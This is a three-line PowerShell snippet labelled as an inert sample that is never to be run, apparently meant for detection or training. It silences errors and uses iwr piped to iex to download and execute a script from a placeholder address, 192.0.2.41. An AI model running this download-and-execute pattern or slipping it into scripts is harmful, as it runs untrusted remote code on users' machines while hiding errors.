# INERT SAMPLE: never run.
$ErrorActionPreference = "SilentlyContinue"
iwr -UseBasicParsing -Uri http://192.0.2.41/a.ps1 | iex
